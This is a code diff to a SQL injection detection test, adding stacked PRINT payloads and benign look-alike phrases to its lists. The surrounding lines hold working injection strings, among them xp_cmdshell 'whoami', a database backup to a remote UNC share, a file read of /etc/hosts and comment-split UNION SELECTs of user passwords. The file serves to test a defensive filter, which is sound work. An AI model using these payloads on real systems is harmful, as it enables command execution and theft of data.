@@ -56,6 +56,7 @@ class SqlInjectionTest {
         " exec xp_cmdshell 'whoami'",
         // stacked statements that read the catalogue or switch databases (MySQL, T-SQL manuals)
         "'; show databases; --", "1; show grants#", "x'; describe accounts;--", "1; use master;--",
+        "1;PRINT @@version--", "'; print db_name();--",
         "'; backup database shop to disk='\\\\host\\s\\b.bak'--", "'; load data infile '/etc/hosts' into table t#",
         // words split by comments, for filters that delete comments
         "1 un/**/ion sel/**/ect user,pass fr/**/om accounts", "x' o/**/r 1=1-- ",
@@ -123,6 +124,7 @@ class SqlInjectionTest {
         "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
         "he said \"or else\"",
         "show me the tables", "please describe it; thanks", "use the force; luke", "kill 5; then",
+        "print; then", "done; print the receipt", "x; print @home",
         "see /* note */ below", "C:\\Users\\me", "\\'quoted\\'",
         // doubled quotes in ordinary text: CSV fields, empty literals, typography
         "he said \"\"hello\"\" twice", "name=''", "it''s fine", "\"\"", "a '' b", "12'' pipe",
